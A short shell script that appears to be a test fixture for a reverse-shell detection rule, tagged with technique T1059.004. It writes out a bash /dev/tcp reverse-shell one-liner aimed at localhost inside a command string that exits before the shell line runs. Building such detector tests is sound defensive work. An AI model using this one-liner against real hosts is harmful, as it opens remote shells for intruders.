#!/bin/sh
# what: Names a shell on a network device in a command line that ends before it comes to it.
# rule: reverse_shell_command_line
# technique: T1059.004
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cd "$d" || exit
sh -c 'exit 0
bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
